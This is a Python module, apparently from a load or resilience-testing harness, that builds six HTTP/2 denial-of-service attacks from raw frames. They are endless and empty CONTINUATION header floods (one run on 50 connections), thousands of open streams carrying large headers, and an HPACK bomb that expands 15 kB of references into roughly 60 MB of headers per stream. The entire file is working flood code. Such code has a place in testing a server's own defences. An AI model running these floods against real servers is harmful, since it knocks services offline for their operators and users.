"""Headers that do not end, or are many, or large."""

import calls
import frames

PIECES_MAX = 1 << 20   # 16 GiB


def _endless(peer, acks_settings):
    peer.begin(acks_settings=acks_settings)
    if acks_settings:
        peer.wait(0.2)
    # A value must not begin in one frame and end in the next: whole headers only.
    piece = frames.header(b"x-flood", b"y" * 100) * 140
    peer.send(frames.frame(frames.HEADERS, 0, 1, frames.head(calls.ENQUEUE_PATH)))
    for _ in range(PIECES_MAX):
        peer.send(frames.frame(frames.CONTINUATION, 0, 1, piece))
        peer.units += 1


def continuation(target):
    """A block of headers that does not end, from a peer that acknowledges no settings."""
    target.spread(1, lambda peer: _endless(peer, False))


def continuation_acked(target):
    """The same, acknowledged."""
    target.spread(1, lambda peer: _endless(peer, True))


def continuation_50(target):
    """The first, on 50 connections."""
    target.spread(50, lambda peer: _endless(peer, False))


def _empty(peer):
    peer.begin(acks_settings=False)
    peer.send(frames.frame(frames.HEADERS, 0, 1, frames.head(calls.ENQUEUE_PATH)))
    batch = frames.frame(frames.CONTINUATION, 0, 1) * 1000
    for _ in range(PIECES_MAX):
        peer.send(batch)
        peer.units += 1000


def continuation_empty(target):
    """Continuations of nothing."""
    target.spread(1, _empty)


def _large(peer, acks_settings):
    """Streams with 7 KiB of metadata each, below what is refused, that stay open."""
    peer.begin(acks_settings=acks_settings)
    block = frames.head(calls.ENQUEUE_PATH) + frames.header(b"x-large", b"y" * 120) * 48
    for i in range(5900):
        peer.send(frames.frame(frames.HEADERS, frames.END_HEADERS, 2 * i + 1, block))
        peer.units += 1


def large_headers(target):
    """5,900 open streams with 7 KiB of headers on each of 4 connections."""
    target.spread(4, lambda peer: _large(peer, True))


def _references(peer):
    """A header of 4 KB in the table of HPACK, then blocks of one-byte references to it."""
    peer.begin()
    value = b"y" * 3900
    length = b"\x7f" + frames.varint(len(value) - 127)
    stored = b"\x40\x05x-ref" + length + value
    block = frames.head(calls.ENQUEUE_PATH)
    peer.send(frames.frame(frames.HEADERS, frames.END_HEADERS, 1, block + stored))
    for i in range(1, 5900):
        peer.send(frames.frame(frames.HEADERS, frames.END_HEADERS, 2 * i + 1,
                               block + b"\xbe" * 15000))
        peer.units += 1


def header_references(target):
    """HPACK bomb: 60 MB of headers from 15 kB, again and again."""
    target.spread(1, _references)


PLAYS = (continuation, continuation_acked, continuation_50, continuation_empty, large_headers,
         header_references)
